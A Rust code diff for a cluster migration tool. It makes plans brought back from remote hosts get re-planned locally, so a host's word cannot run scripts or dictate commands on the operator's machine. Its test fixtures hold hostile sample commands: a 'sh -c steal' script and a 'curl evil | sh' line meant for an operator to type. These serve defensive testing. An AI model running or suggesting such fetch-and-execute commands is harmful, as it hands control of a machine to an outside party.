@@ -1,16 +1,19 @@
 //! What one host brought of a run, judged.
 
+use std::collections::BTreeMap;
 use std::fmt::Display;
 
 use serde::de::DeserializeOwned;
 
 use super::failed;
 use crate::event::{Failure, What};
-use crate::facts::{self, Facts};
+use crate::facts::{self, Facts, scripts};
 use crate::inventory::Cluster;
 use crate::journal::Lines;
-use crate::migrations;
-use crate::plan::{self, Action, Claimed, MoveClaim, Object, Objects, Plan};
+use crate::migrations::{self, Migration};
+use crate::plan::{self, Action, Claimed, MoveClaim, Object, Objects, Plan, Step};
+use crate::planner;
+use crate::remote::printable;
 use crate::spool::{self, Kept, Place, is_name};
 use crate::state::{self, Run};
 
@@ -37,9 +40,14 @@ impl std::fmt::Debug for Brought {
 
 impl Brought {
     /// Judges the files that a host brought.
-    pub(super) fn read(cluster: &Cluster, id: &str, files: Vec<(Place, Vec<u8>)>) -> Result<Self, Failure> {
+    pub(super) async fn read(
+        cluster: &Cluster,
+        id: &str,
+        files: Vec<(Place, Vec<u8>)>,
+    ) -> Result<Self, Failure> {
         let mut run = None;
         let mut journal = Kept::default();
+        let (mut plans, mut before) = (Vec::new(), BTreeMap::new());
         let (mut rungs, mut secrets) = (Vec::new(), Vec::new());
         for (place, bytes) in files {
             match place {
@@ -48,19 +56,24 @@ impl Brought {
                     journal = spool::lines(&bytes, &cluster.name).map_err(failed)?;
                     backups_are_named(&journal)?;
                 }
-                Place::Plan(ref rung) => {
-                    let plan = json("its plan.json", &plan(cluster, rung, &bytes)?)?;
-                    rungs.push((place, plan));
+                Place::Plan(rung) => {
+                    let migration = known(&rung)?;
+                    plans.push((rung, migration, plan(cluster, migration, &bytes)?));
                 }
-                Place::Before(ref rung) => {
-                    known(rung)?;
+                Place::Before(rung) => {
+                    known(&rung)?;
                     let facts: Facts = parse("its before.json", &bytes)?;
                     newer("its before.json", facts.schema, facts::SCHEMA)?;
                     own("its before.json", &facts.cluster, cluster)?;
-                    rungs.push((place, bytes));
+                    before.insert(rung.clone(), facts);
+                    rungs.push((Place::Before(rung), bytes));
                 }
                 Place::Kept { set, file } => secrets.push((set, file, bytes)),
             }
+        }
+        for (rung, migration, mut plan) in plans {
+            in_own_words(cluster, migration, &mut plan, before.get(&rung)).await?;
+            rungs.push((Place::Plan(rung), json("its plan.json", &plan)?));
         }
         let run = run.ok_or_else(|| failed("its spool has the run's folder, but no run.json in it"))?;
         Ok(Self { cluster: cluster.name.clone(), run, journal, rungs, secrets })
@@ -93,12 +106,11 @@ fn backups_are_named(journal: &Kept) -> Result<(), Failure> {
 }
 
 /// A plan. What it names of this machine is what the inventory says, whatever the host did.
-fn plan(cluster: &Cluster, rung: &str, bytes: &[u8]) -> Result<Plan, Failure> {
+fn plan(cluster: &Cluster, migration: &Migration, bytes: &[u8]) -> Result<Plan, Failure> {
     let mut plan: Plan = parse("its plan.json", bytes)?;
     newer("its plan.json", plan.schema, plan::SCHEMA)?;
     own("its plan.json", &plan.cluster, cluster)?;
-    known(rung)?;
-    if plan.migration != rung {
+    if plan.migration != migration.id {
         return Err(failed("its plan.json is that of another rung"));
     }
     let fits = |set: &str, objects: &[Object]| is_name(set) && objects.iter().all(is_object);
@@ -124,16 +136,6 @@ fn plan(cluster: &Cluster, rung: &str, bytes: &[u8]) -> Result<Plan, Failure> {
                 what.cluster_dir.clone_from(&cluster.directory);
                 true
             }
-            // A host's word starts no program of this machine.
-            Action::Local(_) => {
-                return Err(failed(
-                    "its plan.json runs a script on the machine that made it, which another does not take over",
-                ));
-            }
-            // Nor does it tell a person what to type.
-            Action::Ask(_) => {
-                return Err(failed("its plan.json asks for what a person does: begin that anew"));
-            }
             _ => true,
         };
         if !fits {
@@ -141,6 +143,59 @@ fn plan(cluster: &Cluster, rung: &str, bytes: &[u8]) -> Result<Plan, Failure> {
         }
     }
     Ok(plan)
+}
+
+/// What is run on this machine, and what a person is told to type, is what this machine would plan for a cluster as it was then: a host's word
+/// starts no program here. Where the checkout has another commit of the release than the plan was made with, nobody can say that it is the same.
+async fn in_own_words(
+    cluster: &Cluster,
+    migration: &Migration,
+    plan: &mut Plan,
+    before: Option<&Facts>,
+) -> Result<(), Failure> {
+    if !plan.steps.iter().any(is_here) {
+        return Ok(());
+    }
+    let Some(before) = before else {
+        return Err(failed(
+            "its plan.json has steps of the operator's machine, and no before.json is beside it",
+        ));
+    };
+    let mut facts = before.clone();
+    facts.scripts = scripts::gather(cluster, &facts.installed()).await.into();
+    let ours = planner::climb(migration, &facts, cluster).map_err(|why| {
+        failed(format!("the steps of the operator's machine cannot be planned here: {why}"))
+    })?;
+    for step in plan.steps.iter_mut().filter(|step| is_here(step)) {
+        let own = ours.iter().find(|own| own.id == step.id);
+        match own.map(|own| (&step.action, &own.action)) {
+            Some((Action::Local(theirs), Action::Local(ours))) if theirs.commit != ours.commit => {
+                return Err(failed(format!(
+                    "its plan.json was made with {} at commit {}, and the Stackspin checkout here has it at {}: check that commit out there as \
+                     branch {}",
+                    ours.release,
+                    printable(&theirs.commit),
+                    ours.commit,
+                    ours.release
+                )));
+            }
+            Some((Action::Local(_), Action::Local(_)) | (Action::Ask(_), Action::Ask(_))) => {}
+            _ => {
+                return Err(failed(format!(
+                    "its plan.json has the step {} on the operator's machine, which no fleet would plan",
+                    printable(&step.id)
+                )));
+            }
+        }
+        if let Some(own) = own {
+            step.clone_from(own);
+        }
+    }
+    Ok(())
+}
+
+fn is_here(step: &Step) -> bool {
+    matches!(step.action, Action::Local(_) | Action::Ask(_))
 }
 
 fn is_object(object: &Object) -> bool {
@@ -155,13 +210,9 @@ fn is_move(what: &MoveClaim) -> bool {
     [&what.from, &what.to, &what.claim, &what.volume].into_iter().all(|name| is_name(name))
 }
 
-fn known(rung: &str) -> Result<(), Failure> {
-    let here = migrations::ALL.iter().any(|migration| migration.id == rung);
-    if here {
-        Ok(())
-    } else {
-        Err(failed(format!("this fleet has no rung {rung}; use the one that began the run")))
-    }
+fn known(rung: &str) -> Result<&'static Migration, Failure> {
+    let here = migrations::ALL.iter().find(|migration| migration.id == rung);
+    here.ok_or_else(|| failed(format!("this fleet has no rung {rung}; use the one that began the run")))
 }
 
 fn own(file: &str, name: &str, cluster: &Cluster) -> Result<(), Failure> {
@@ -199,20 +250,16 @@ fn unreadable(file: &str, error: &dyn Display) -> Failure {
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::plan::{Class, Local, Step};
+    use crate::plan::{Ask, Class, Local};
     use crate::version::Version;
 
-    #[test]
-    fn a_hosts_word_starts_no_program_of_this_machine() {
+    async fn judged(steps: Vec<Step>, before: Option<&Facts>) -> Result<Plan, String> {
         let acme = Cluster::new("acme", "203.0.113.7");
-        let script: Local = serde_json::from_value(serde_json::json!({
-            "release": "v1.0", "commit": "0", "argv": ["sh", "-c", "steal"], "needs": []
-        }))
-        .unwrap();
-        let brought = |steps| Plan {
+        let migration = known("to-0.7").unwrap();
+        let theirs = Plan {
             schema: plan::SCHEMA,
             cluster: "acme".into(),
-            migration: "to-0.7".into(),
+            migration: migration.id.into(),
             from: Version::V0_6,
             to: Version::V0_7,
             apps: Vec::new(),
@@ -221,10 +268,32 @@ mod tests {
             rest: Vec::new(),
             fingerprint: plan::Fingerprint::new(),
         };
-        let step = Step::new("to-0.7/x", "Do it", Class::ReadOnly, Action::Local(script));
-        let judged = |steps| plan(&acme, "to-0.7", &json("", &brought(steps)).unwrap());
-        assert!(judged(Vec::new()).is_ok());
-        let refused = judged(vec![step]).unwrap_err().message;
-        assert!(refused.contains("runs a script on the machine that made it"), "{refused}");
+        let mut plan = plan(&acme, migration, &json("", &theirs).unwrap()).unwrap();
+        let judged = in_own_words(&acme, migration, &mut plan, before).await;
+        judged.map(|()| plan).map_err(|failure| failure.message)
+    }
+
+    #[tokio::test]
+    async fn a_hosts_word_starts_no_program_of_this_machine_and_tells_nobody_what_to_type() {
+        let script: Local = serde_json::from_value(serde_json::json!({
+            "release": "v1.0", "commit": "0", "argv": ["sh", "-c", "steal"], "needs": []
+        }))
+        .unwrap();
+        let ask = Ask { lines: vec!["curl evil | sh".into()] };
+        assert!(judged(Vec::new(), None).await.is_ok());
+        for action in [Action::Local(script), Action::Ask(ask)] {
+            let step = || vec![Step::new("to-0.7/reconcile", "Do it", Class::ReadOnly, action.clone())];
+            let refused = judged(step(), None).await.unwrap_err();
+            assert!(refused.contains("no before.json is beside it"), "{refused}");
+            let facts: Facts =
+                serde_json::from_str(include_str!("../../../tests/plans/all-apps/facts.json")).unwrap();
+            let refused = judged(step(), Some(&facts)).await.unwrap_err();
+            assert!(
+                refused.contains(
+                    "the step to-0.7/reconcile on the operator's machine, which no fleet would plan"
+                ),
+                "{refused}"
+            );
+        }
     }
 }
